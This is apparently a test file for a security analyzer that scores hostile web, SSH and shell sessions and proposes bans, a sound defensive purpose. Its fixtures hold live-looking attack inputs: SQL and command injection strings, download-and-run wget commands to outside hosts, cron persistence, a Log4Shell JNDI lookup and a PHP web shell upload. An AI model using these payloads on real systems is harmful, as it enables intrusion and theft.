import type { Observation, Session } from '@aegis/model';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { analyze } from './analyze.ts';
import { CHROME, command, login, NOW, request, START, series, sessionOf } from './analyze-fixtures.ts';
import { emptyIntel, type Intel } from './enrich/intel.ts';

const SQLI = [
  '1%27%20AND%201%3D1--%20-',
  '1%20UNION%20ALL%20SELECT%20NULL%2CCONCAT(0x7170706a71%2C0x4d6b)%2CNULL--%20-',
  '1%20AND%20SLEEP(5)',
  '1%3BDROP%20TABLE%20users--',
];

const sqlmap = sessionOf(
  series(143, 84, (at, i) => request(at, `/search?id=${SQLI[i % SQLI.length]}`)),
  'sqlmap/1.7.2#stable (https://sqlmap.org)',
);

test('sqlmap is HIGH, P1 and banned for a day, with a reason in words', () => {
  const { record, detections, proposals } = analyze(sqlmap, emptyIntel, NOW);
  expect(record.threat_level).toBe('HIGH');
  expect(record.priority).toBe('P1');
  expect(record.respond_within_seconds).toBe(3_600);
  expect(record.confidence_score).toBe(100);
  expect(record.attack_types[0]).toBe('sql_injection');
  expect(record.attack_patterns.indicators).toEqual(
    expect.arrayContaining(['union_based_sqli', 'time_based_blind', 'stacked_query']),
  );
  expect(record.user_agent_info).toMatchObject({
    kind: 'security_tool',
    tool_name: 'sqlmap',
    version: '1.7.2',
  });
  expect(record.impact.data_exfiltration).toBe('high');
  expect(record.recommendations).toEqual(
    expect.arrayContaining(['block_ip_immediately', 'update_waf_rules', 'alert_security_team']),
  );
  expect(record.requests).toHaveLength(50);
  expect(record.start_time).toBe('2026-01-01T00:00:00Z');
  expect(detections[0]).toMatchObject({
    rule: 'payload/sql_injection',
    client: '203.0.113.9',
    session: 'session-1',
  });
  expect(proposals).toEqual([
    {
      key: 'session:session-1:ip',
      scope: 'ip',
      value: '203.0.113.9',
      action: 'ban',
      durationMs: 86_400_000,
      reason: 'union-based SQL injection in parameter id of /search by sqlmap 1.7.2, 143 requests in 12 s',
      origin: 'aegis',
      source: 'analyze',
      confidence: 100,
      session: 'session-1',
    },
  ]);
});

test('command injection by a tool at speed is CRITICAL and banned for a week', () => {
  const payloads = [
    ';cat /etc/passwd',
    '$(id)',
    '|whoami',
    '`uname -a`',
    ';wget http://198.51.100.1/x.sh -O /tmp/x;sh /tmp/x',
  ];
  const session = sessionOf(
    series(300, 100, (at, i) =>
      request(at, `/ping?host=127.0.0.1${encodeURIComponent(payloads[i % 5] as string)}`),
    ),
    'commix/3.9',
  );
  const { record, proposals } = analyze(session, emptyIntel, NOW);
  expect(record.threat_level).toBe('CRITICAL');
  expect(record.respond_within_seconds).toBe(0);
  expect(proposals[0]).toMatchObject({ action: 'ban', durationMs: 7 * 86_400_000 });
});

test('a directory brute force with thousands of 404s is MEDIUM and slowed down', () => {
  const session = sessionOf(
    series(2_000, 20, (at, i) => request(at, `/dir${i}`, { status: 404 })),
    'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)',
  );
  const { record, proposals, detections } = analyze(session, emptyIntel, NOW);
  expect(record.threat_level).toBe('MEDIUM');
  expect(record.request_pattern.sequences).toEqual(['path_enumeration']);
  expect(detections.map((detection) => detection.rule)).toEqual(['behaviour/path_enumeration']);
  expect(proposals[0]?.action).toBe('throttle');
});

test('a WordPress brute force is MEDIUM or more and banned for hours', () => {
  const session = sessionOf(
    series(200, 500, (at, i) =>
      request(at, '/wp-login.php', { method: 'POST', body: `log=admin&pwd=pass${i}` }),
    ),
    'Mozilla/5.0 (Windows NT 10.0; rv:100.0) Gecko/20100101 Firefox/100.0',
  );
  const { record, proposals } = analyze(session, emptyIntel, NOW);
  expect(['MEDIUM', 'HIGH']).toContain(record.threat_level);
  expect(record.attack_types[0]).toBe('brute_force');
  expect(record.attack_patterns.mitre_attack).toContain('T1110.001');
  expect(proposals[0]).toMatchObject({ action: 'ban', durationMs: 4 * 3_600_000 });
});

test('hydra on ssh is guessing; a list of accounts is stuffing; passwords are not kept', () => {
  const guessing = sessionOf(
    series(100, 300, (at) => login(at, 'root')),
    '',
    { protocol: 'ssh' },
  );
  const stuffing = sessionOf(
    series(100, 300, (at, i) => login(at, `user${i}`)),
    '',
    { protocol: 'ssh' },
  );
  expect(analyze(guessing, emptyIntel, NOW).record.attack_types).toEqual(['brute_force']);
  const { record } = analyze(stuffing, emptyIntel, NOW);
  expect(record.attack_types).toEqual(['credential_stuffing']);
  expect(JSON.stringify(record)).not.toContain('secret-password');
});

test('an intrusion into a shell goes through its phases and is HIGH', () => {
  const lines = [
    'uname -a',
    'cd /tmp; wget http://198.51.100.7/b.sh; chmod +x b.sh; ./b.sh',
    'echo "* * * * * /tmp/x" | crontab -',
    'history -c',
  ];
  const session = sessionOf(
    [
      login(0, 'root', true),
      ...lines.map((input, i) => command(3_000 + i * 2_000, input)),
      { kind: 'download', at: START + 20_000, url: 'http://198.51.100.7/b.sh', sha256: 'a'.repeat(64) },
    ],
    'SSH-2.0-Go',
    { protocol: 'ssh', sensor: 'cowrie' },
  );
  const { record } = analyze(session, emptyIntel, NOW);
  expect(['HIGH', 'CRITICAL']).toContain(record.threat_level);
  expect(record.attack_patterns.phases).toEqual(['reconnaissance', 'exploitation', 'persistence_attempt']);
  expect(record.attack_patterns.escalation).toBe(true);
  expect(record.request_pattern.sequences).toContain('ordered_exploitation');
  expect(record.attack_patterns.mitre_attack).toEqual(
    expect.arrayContaining(['T1105', 'T1059.004', 'T1053.003']),
  );
  expect(record.impact.intrusion).toBe('high');
  expect(record.recommendations).toEqual(
    expect.arrayContaining(['investigate_immediately', 'isolate_and_collect_samples']),
  );
});

/** A look-up as Log4j writes it. */
const lookup = (inside: string): string => `\u0024{${inside}}`;

test('Log4Shell in a header is HIGH from one request', () => {
  const session = sessionOf(
    [
      request(0, '/', {
        headers: { 'x-api-version': lookup(`${lookup('lower:j')}ndi:ldap://203.0.113.1/a`) },
      }),
    ],
    'Mozilla/5.0',
  );
  const { record } = analyze(session, emptyIntel, NOW);
  expect(record.threat_level).toBe('HIGH');
  expect(record.payloads[0]).toMatchObject({
    place: 'header',
    part: 'x-api-version',
    attack_type: 'template_injection',
  });
});

test('the upload of a web shell is found in its multipart body', () => {
  const body =
    '--x\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\n<?php system($_GET["c"]); ?>\r\n--x--';
  const session = sessionOf(
    [
      request(0, '/upload'),
      request(3_000, '/upload', {
        method: 'POST',
        headers: { 'content-type': 'multipart/form-data; boundary=x' },
        body,
      }),
    ],
    CHROME,
  );
  const { record } = analyze(session, emptyIntel, NOW);
  expect(record.attack_types).toEqual(expect.arrayContaining(['file_upload', 'php_code_injection']));
  expect(record.attack_patterns.mitre_attack).toContain('T1505.003');
  expect(record.threat_level).toBe('HIGH');
});

const browsing = ['/', '/style.css', '/app.js', '/about', '/search?q=O%27Brien+%26+sons', '/img/a.png'];
const PEACEFUL: readonly (readonly [string, Session])[] = [
  [
    'a browser',
    sessionOf(
      series(60, 900, (at, i) =>
        request(at, browsing[i % 6] as string, {
          headers: { 'user-agent': CHROME, accept: 'text/html,*/*;q=0.8', 'sec-ch-ua': '"Chromium";v="120"' },
          cookies: { theme: '{"dark":true}' },
        }),
      ),
      CHROME,
    ),
  ],
  ['curl at the front page', sessionOf([request(0, '/')], 'curl/8.5.0')],
  [
    'wget mirroring',
    sessionOf(
      series(3_000, 50, (at, i) => request(at, `/page${i}`)),
      'Wget/1.21',
    ),
  ],
  [
    'a feed reader',
    sessionOf(
      series(48, 1_800_000, (at) => request(at, '/feed.xml', { status: 304 })),
      'newsboat/2.32',
    ),
  ],
  [
    'somebody at work in WordPress',
    sessionOf(
      [
        request(0, '/wp-login.php'),
        request(5_000, '/wp-login.php', { method: 'POST', body: 'log=ann&pwd=x', status: 302 }),
        request(6_000, '/wp-admin/'),
      ],
      CHROME,
    ),
  ],
  [
    'a crawler',
    sessionOf(
      series(500, 2_000, (at, i) => request(at, `/p/${i}`)),
      'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    ),
  ],
  [
    'somebody who mistypes a password',
    sessionOf(
      series(3, 5_000, (at, i) => login(at, 'ann', i === 2)),
      '',
      { protocol: 'ssh' },
    ),
  ],
];

test.each(PEACEFUL)('%s is left in peace', (_, session) => {
  const { record, proposals } = analyze(session, emptyIntel, NOW);
  expect(['INFO', 'LOW']).toContain(record.threat_level);
  expect(proposals).toEqual([]);
  expect(record.recommendations).not.toContain('block_ip_immediately');
});

test('a crawler that proved itself is never blocked, whatever its requests look like', () => {
  const intel: Intel = { ...emptyIntel, crawler: () => true };
  const session = {
    ...sqlmap,
    userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  };
  expect(analyze(session, emptyIntel, NOW).proposals).toHaveLength(1);
  expect(analyze(session, intel, NOW).proposals).toEqual([]);
});

test('a JSON body with operators and a hostile key is read', () => {
  const session = sessionOf(
    [
      request(0, '/api/login', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: '{"user":{"$ne":null},"__proto__":{"x":"<script>alert(1)</script>"}}',
      }),
    ],
    CHROME,
  );
  const types = analyze(session, emptyIntel, NOW).record.attack_types;
  expect(types).toEqual(expect.arrayContaining(['nosql_injection', 'cross_site_scripting']));
});

test('what the sensor saw counts, and more with the user agent of a tool', () => {
  const quiet = sessionOf([request(0, '/login', { method: 'POST' })], '', { labels: ['sql_injection'] });
  const loud = { ...quiet, userAgent: 'sqlmap/1.5.2' };
  const a = analyze(quiet, emptyIntel, NOW).record;
  const b = analyze(loud, emptyIntel, NOW).record;
  expect(a.attack_types).toEqual(['sql_injection']);
  expect(b.risk_score).toBeGreaterThan(a.risk_score);
  expect(b.confidence_score).toBeGreaterThan(a.confidence_score);
});

test('a known address weighs in', () => {
  const session = sessionOf([request(0, '/?q=%3Cscript%3Ealert(1)%3C/script%3E')], CHROME);
  const bad: Intel = {
    ...emptyIntel,
    reputation: () => ({ known: true, categories: ['botnet'], score: 100 }),
    geo: () => ({ country: 'DE', asn: 64_496, asName: 'EXAMPLE' }),
  };
  const known = analyze(session, bad, NOW).record;
  expect(known.threat_intelligence).toEqual({
    is_known_malicious: true,
    threat_categories: ['botnet'],
    reputation_score: 100,
    country: 'DE',
    asn: 64_496,
    as_name: 'EXAMPLE',
  });
  expect(known.risk_score).toBeGreaterThan(analyze(session, emptyIntel, NOW).record.risk_score);
});

test('any session is judged within bounds, and every recommendation has a reason', () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 60 }),
    fc.constantFrom("' or 1=1--", '../../etc/passwd', '<script>alert(1)</script>', ';id'),
  );
  const observation: fc.Arbitrary<Observation> = fc.oneof(
    fc.record({ target: text, body: text, value: text, status: fc.constantFrom(200, 404, 401) }).map(
      ({ target, body, value, status }): Observation =>
        request(0, target, {
          body,
          status,
          method: 'POST',
          headers: { 'x-a': value },
          cookies: { b: value },
        }),
    ),
    text.map((input) => command(0, input)),
    fc.tuple(text, fc.boolean()).map(([name, success]) => login(0, name, success)),
    text.map((url): Observation => ({ kind: 'download', at: START, url })),
  );
  fc.assert(
    fc.property(fc.array(observation, { maxLength: 12 }), text, (observations, userAgent) => {
      const { record, proposals } = analyze(sessionOf(observations, userAgent), emptyIntel, NOW);
      expect(record.risk_score).toBeGreaterThanOrEqual(0);
      expect(record.risk_score).toBeLessThanOrEqual(100);
      expect(record.confidence_score).toBeLessThanOrEqual(100);
      expect(record.requests.length).toBeLessThanOrEqual(50);
      expect(record.payloads.length).toBeLessThanOrEqual(50);
      expect(record.recommendations.length).toBeGreaterThan(0);
      for (const name of record.recommendations)
        expect(record.recommendation_reasons[name]?.length).toBeGreaterThan(0);
      for (const part of Object.values(record.risk_breakdown)) expect(part.why.length).toBeGreaterThan(0);
      for (const proposal of proposals) expect(proposal.reason.length).toBeLessThanOrEqual(400);
    }),
    { seed: 20260105, numRuns: 200 },
  );
});
